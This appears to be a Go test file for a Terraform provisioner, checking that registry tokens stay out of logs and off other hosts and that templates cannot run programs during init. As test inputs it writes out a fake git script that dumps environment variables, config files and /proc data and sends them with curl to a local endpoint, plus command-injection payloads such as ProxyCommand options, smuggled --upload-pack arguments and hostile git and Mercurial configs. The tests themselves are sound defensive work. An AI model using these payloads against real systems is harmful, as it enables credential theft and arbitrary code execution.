package terraform_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/codermesh/codermesh/v2/provisionerd/provisionerpb"
	"github.com/codermesh/codermesh/v2/provisionerd/terraform"
)

// privateRegistry serves a module to those with a token, and its archive, at another origin, to everyone. It returns the URL of the
// registry's modules, and what the other origin was sent as credentials.
func privateRegistry(t *testing.T, token string) (url string, leaked func() string) {
	t.Helper()
	var archive bytes.Buffer
	packed := gzip.NewWriter(&archive)
	w := tar.NewWriter(packed)
	text := `output "answer" { value = "from-the-private-module" }`
	if err := w.WriteHeader(&tar.Header{Name: "main.tf", Mode: 0o644, Size: int64(len(text))}); err != nil {
		t.Fatal(err)
	}
	if _, err := io.WriteString(w, text); err != nil {
		t.Fatal(err)
	}
	for _, closed := range []error{w.Close(), packed.Close()} {
		if closed != nil {
			t.Fatal(closed)
		}
	}
	var mu sync.Mutex
	var headers strings.Builder // guarded by mu
	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		_ = r.Header.Write(&headers) // a builder takes everything
		w.Write(archive.Bytes())
	}))
	t.Cleanup(elsewhere.Close)
	registry := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.Header.Get("Authorization") != "Bearer "+token:
			w.WriteHeader(http.StatusUnauthorized)
		case r.URL.Path == "/modules/v1/example/answer/any/versions":
			fmt.Fprint(w, `{"modules":[{"versions":[{"version":"2.0.1"}]}]}`)
		case r.URL.Path == "/modules/v1/example/answer/any/2.0.1/download":
			w.Header().Set("X-Terraform-Get", elsewhere.URL+"/archive.tar.gz?archive=tar.gz")
			w.WriteHeader(http.StatusNoContent)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(registry.Close)
	return registry.URL + "/modules/v1/", func() string {
		mu.Lock()
		defer mu.Unlock()
		return headers.String()
	}
}

// cliConfigOf writes an operator's CLI configuration and makes it this process's.
func cliConfigOf(t *testing.T, text string) {
	t.Helper()
	name := filepath.Join(t.TempDir(), "terraformrc")
	if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("TF_CLI_CONFIG_FILE", name)
}

const privateModule = `
module "answer" {
  source  = "registry.corp.example/example/answer/any"
  version = "2.0.1"
}
resource "terraform_data" "vm" {
  input = module.answer.answer
}
`

// TestPrivateRegistry installs a module from a registry that wants a token, which the operator gives in either way. The token reaches the
// registry alone.
func TestPrivateRegistry(t *testing.T) {
	url, leaked := privateRegistry(t, "REGISTRY-TOKEN")
	host := fmt.Sprintf("host \"registry.corp.example\" {\n  services = { \"modules.v1\" = %q }\n}\n", url)
	for how, text := range map[string]string{
		"credentials": host + "credentials \"registry.corp.example\" {\n  token = \"REGISTRY-TOKEN\"\n}\n",
		"variable":    host,
		"none":        host,
	} {
		t.Run(how, func(t *testing.T) {
			cliConfigOf(t, text)
			if how == "variable" {
				t.Setenv("TF_TOKEN_registry_corp_example", "REGISTRY-TOKEN")
			}
			e := newExecutor(t)
			j := newTrial(t, files(privateModule))
			result := j.build(e, &provisionerpb.WorkspaceBuild{Transition: start})
			if how == "none" {
				if !strings.Contains(result.GetError()+j.sink.text(), "registry.corp.example") {
					t.Errorf("without a token: %s\n%s", result.GetError(), j.sink.text())
				}
				return
			}
			if got := attribute(t, ok(t, j, result).GetState(), "vm", "output"); got != "from-the-private-module" {
				t.Errorf("value %q", got)
			}
			if log := j.sink.text(); strings.Contains(log, "REGISTRY-TOKEN") {
				t.Errorf("the token is in the log:\n%s", log)
			}
		})
	}
	if text := leaked(); strings.Contains(text, "Authorization") || strings.Contains(text, "TOKEN") || !strings.Contains(text, "User-Agent") {
		t.Errorf("the archive's host got:\n%s", text)
	}
}

// TestInitHasNoCredentials runs a program of an attacker in the place of git during init, with everything that init has. It finds no
// credentials, and cannot ask the registry for anything beyond modules and providers.
func TestInitHasNoCredentials(t *testing.T) {
	url, _ := privateRegistry(t, "SECRET-TOKEN-1")
	cliConfigOf(t, fmt.Sprintf(`
host "registry.corp.example" {
  services = { "modules.v1" = %q }
}
credentials "registry.corp.example" {
  token = "SECRET-TOKEN-1"
}
credentials "other.corp.example" {
  token = "SECRET-TOKEN-2"
}
credentials_helper "vault" {
  args = ["SECRET-TOKEN-3"]
}
`, url))
	t.Setenv("TF_TOKEN_third_corp_example", "SECRET-TOKEN-4")
	bin, err := os.MkdirTemp("/var/tmp", "cmgit")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := os.RemoveAll(bin); err != nil {
			t.Error(err)
		}
	})
	where, bodies := posted(t)
	script := `#!/bin/sh
{
  echo "attack-began as $(id -u)"; env; cat "$TF_CLI_CONFIG_FILE"
  cat /proc/*/environ /proc/*/cmdline | tr '\0' '\n'
  cat $HOME/* $HOME/.* ../* ../../* ./* .terraform/* /run/cm*/*
} 2>&1 | curl -s --data-binary @- ` + where + `
exit 1
`
	if err := os.WriteFile(filepath.Join(bin, "git"), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(bin, 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", bin+":"+os.Getenv("PATH"))
	e := newExecutor(t, func(o *terraform.Options) { o.Readable = []string{bin} })
	j := newTrial(t, files("module \"m\" {\n  source = \"git::https://example.invalid/x.git\"\n}\n"+privateModule))
	result := j.importIt(e, &provisionerpb.TemplateImport{})
	if result.GetError() == "" {
		t.Fatal("the import succeeded")
	}
	found := <-bodies
	if !strings.Contains(found, "attack-began") || !strings.Contains(found, "registry.corp.example") {
		t.Fatalf("the attack did not run:\n%s", found)
	}
	for line := range strings.Lines(found) {
		if strings.Contains(line, "SECRET-TOKEN") {
			t.Errorf("init has %s", line)
		}
	}
}

// TestTemplatesDoNotConfigureGit imports templates that try to run a program in init by what git reads.
func TestTemplatesDoNotConfigureGit(t *testing.T) {
	t.Parallel()
	e := newExecutor(t)
	where, bodies := posted(t)
	run := "touch $TMPDIR/ran; curl -s -d ran " + where + "; exit 1\n"
	config := "[core]\n\trepositoryformatversion = 0\n\tbare = true\n[protocol \"ext\"]\n\tallow = always\n[url \"ext::sh ./run.sh \"]\n\tinsteadOf = https://example.invalid/\n"
	git := func(source string) string { return "module \"m\" {\n  source = \"" + source + "\"\n}\n" }
	for what, c := range map[string]struct {
		main string
		more map[string]string
		want string // a part of the error
	}{
		"a repository": {git("git::https://example.invalid/x.git"), map[string]string{
			".git/config": config, ".git/HEAD": "ref: refs/heads/main\n", ".git/objects/x": "", ".git/refs/heads/x": ""}, "changes how git works"},
		"a bare repository": {git("git::https://example.invalid/x.git"), map[string]string{
			"config": config, "HEAD": "ref: refs/heads/main\n", "objects/x": "", "refs/heads/x": ""}, "makes its folder a git repository"},
		"Mercurial":            {git("hg::https://example.invalid/x"), map[string]string{".hg/hgrc": "[ui]\nssh = sh ./run.sh\n"}, "changes how Mercurial works"},
		"Terraform":            {git("git::https://example.invalid/x.git"), map[string]string{".terraformrc": "credentials_helper \"x\" {}\n"}, "changes how Terraform works"},
		"netrc":                {git("git::https://example.invalid/x.git"), map[string]string{".netrc": "machine example.invalid\n"}, "changes how git and Terraform works"},
		"the ext protocol":     {git("git::ext::sh ./run.sh"), nil, ""},
		"SSH's options":        {git("git::ssh://-oProxyCommand=sh${IFS}./run.sh/x.git"), nil, ""},
		"SSH's options by scp": {git("git::-oProxyCommand=sh@x:y.git"), nil, ""},
		"another option":       {git("git::https://example.invalid/x.git?ref=--upload-pack=./run.sh"), nil, ""},
		"a depth":              {git("git::file:///proc/self/cwd?depth=1%20--upload-pack=./run.sh"), nil, ""},
		"git's own protocol":   {git("git::git://-oProxyCommand=sh/x.git"), nil, ""},
		"a Mercurial option":   {git("hg::https://example.invalid/x?rev=--config=hooks.pre-update=./run.sh"), nil, ""},
		"an upload program":    {git("git::file:///proc/self/cwd?ref=--upload-pack=./run.sh"), nil, ""},
	} {
		t.Run(what, func(t *testing.T) {
			all := files(c.main)
			all["run.sh"] = run
			for name, text := range c.more {
				all[name] = text
			}
			j := newTrial(t, all)
			result := j.importIt(e, &provisionerpb.TemplateImport{})
			if text := result.GetError(); text == "" || !strings.Contains(text, c.want) {
				t.Errorf("error %q, want %q\n%s", text, c.want, j.sink.text())
			}
			select {
			case <-bodies:
				t.Error("a program of the template ran in init")
			default:
			}
		})
	}
}
